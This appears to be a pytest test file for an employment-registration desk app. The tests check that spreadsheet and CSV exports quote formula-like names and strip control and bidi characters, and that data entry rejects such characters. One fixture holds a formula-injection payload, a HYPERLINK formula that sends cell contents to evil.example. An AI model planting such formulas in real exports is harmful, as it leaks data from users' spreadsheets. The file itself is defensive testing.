"""Desk exports cannot be weaponised and one bad record cannot break them: formulas come out
as text, stored control characters are stripped; and the desk refuses such characters at
entry with a message saying which and where."""
from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from field_app.exchange.importer import import_dataset
from field_app.extensions import db
from field_app.households.models import Person
from field_app.registrations.models import EmploymentRegistration
from tests.factories import make_id_number
from tests.registrations.conftest import BANNER, COMMUNITY, STREET, page

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'


@pytest.fixture
def planted(make):
    """Employment registrations in the clerk's township of persons whose stored names a
    spreadsheet would run, or that hold a control character stored before the entry rule."""
    formula = make.person(dt.date(1990, 1, 1), name=FORMULA, phone="+8613811112222")
    control = make.person(dt.date(1991, 1, 1), name="巴\x0b特\x01尔\u202e")
    at_sign = make.person(dt.date(1992, 1, 1), name="@SUM(1+1)")
    for person in (formula, control, at_sign):
        make.employment(person, dt.date(2026, 2, 1), division=COMMUNITY)
    db.session.commit()
    return {"formula": formula, "control": control, "at_sign": at_sign}


def _sheet_cells(response) -> dict[str, object]:
    """Name column → the cell, for each data row of the export."""
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows())[1:]  # below the title row
    name_column = [cell.value for cell in rows[0]].index("姓名")
    return {row[name_column].value: row[name_column] for row in rows[1:]}


def test_xlsx_export_writes_a_formula_name_as_a_quoted_string(client, clerk, planted):
    cells = _sheet_cells(client.get("/desk/lists/employment/export.xlsx"))
    cell = cells["'" + FORMULA]
    assert cell.data_type == "s"
    assert cells["'@SUM(1+1)"].data_type == "s"
    assert not any(str(value).startswith(("=", "@")) for value in cells)


@pytest.mark.parametrize(("role", "division"), [
    ("township_reviewer", STREET),
    ("county_statistician", BANNER),
    ("league_admin", None),
])
def test_a_stored_control_character_does_not_break_the_xlsx_export_at_any_level(
        client, login_as, planted, role, division):
    login_as(role, division)
    cells = _sheet_cells(client.get("/desk/lists/employment/export.xlsx"))
    assert "巴特尔" in cells
    assert not any("\x0b" in str(value) or "\u202e" in str(value) for value in cells)


def test_interchange_zip_neutralises_formulas_and_imports_back_unchanged(client, clerk,
                                                                         planted, tmp_path):
    response = client.get("/desk/lists/employment/export.zip")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        archive.extractall(tmp_path)
    with (tmp_path / "persons.csv").open(encoding="utf-8", newline="") as handle:
        persons = {row["id_number"]: row for row in csv.DictReader(handle)}
    assert persons[planted["formula"].id_number]["name"] == "'" + FORMULA
    assert persons[planted["formula"].id_number]["phone"] == "'+8613811112222"
    assert persons[planted["at_sign"].id_number]["name"] == "'@SUM(1+1)"
    assert persons[planted["control"].id_number]["name"] == "巴特尔"
    assert not any(cell.startswith(("=", "+", "-", "@"))
                   for row in persons.values() for cell in row.values())

    result = import_dataset(db.session.connection(), tmp_path)
    assert result.ok, result.errors
    db.session.flush()
    db.session.expire_all()
    assert db.session.get(Person, planted["formula"].id).name == FORMULA
    assert db.session.get(Person, planted["formula"].id).phone == "+8613811112222"
    assert db.session.get(Person, planted["at_sign"].id).name == "@SUM(1+1)"
    # The stored control characters were stripped on export, so the import cleans the name.
    assert db.session.get(Person, planted["control"].id).name == "巴特尔"
    db.session.rollback()


@pytest.mark.parametrize(("name", "shown"), [
    ("乌\u202e日娜", "「姓名」含有不允许的字符（U+202E，第2个字符）"),
    ("乌日\u200b娜", "「姓名」含有不允许的字符（U+200B，第3个字符）"),
    ("乌日娜\x0b", "「姓名」含有不允许的字符（U+000B，第4个字符）"),
    ("乌日\n娜", "「姓名」含有不允许的字符（U+000A，第3个字符）"),
])
def test_the_desk_refuses_a_name_with_a_character_not_allowed(client, clerk, name, shown):
    number = make_id_number(dt.date(2000, 6, 16), "female")
    response = client.post("/desk/persons", data={"id_number": number, "name": name})
    assert response.status_code == 422
    assert shown in page(response)
    assert db.session.scalars(select(Person)).first() is None


def test_the_desk_refuses_an_employer_name_with_a_bidi_override(client, make, clerk,
                                                                looked_up):
    person = looked_up(make.person(dt.date(1990, 1, 1)))
    db.session.commit()
    response = client.post(f"/desk/persons/{person.id}/employment", data={
        "division_code": COMMUNITY, "employment_type": "flexible",
        "employer_name": "某\u202e单位", "start_date": "2026-05-01",
        "registered_on": "2026-05-02", "person_category": "new_entrant"})
    assert response.status_code == 422
    assert "「单位名称」含有不允许的字符（U+202E，第2个字符）" in page(response)
    assert db.session.scalar(select(EmploymentRegistration.id)) is None


def test_the_desk_refuses_an_invalidation_reason_with_a_zero_width_character(
        client, make, clerk):
    record = make.employment(make.person(), dt.date(2026, 2, 1), division=COMMUNITY)
    db.session.commit()
    response = client.post(f"/desk/employment/{record.id}/invalidate",
                           data={"reason": "录入\u2060错误"})
    assert response.status_code == 422
    assert "含有不允许的字符（U+2060，第3个字符）" in page(response)
    db.session.expire_all()
    assert record.valid


def test_a_name_that_merely_starts_like_a_formula_is_accepted_at_the_desk(client, clerk):
    number = make_id_number(dt.date(2000, 6, 16), "female")
    response = client.post("/desk/persons", data={"id_number": number, "name": "-乌日娜"})
    assert response.status_code == 302
    assert db.session.scalar(select(Person.name)) == "-乌日娜"
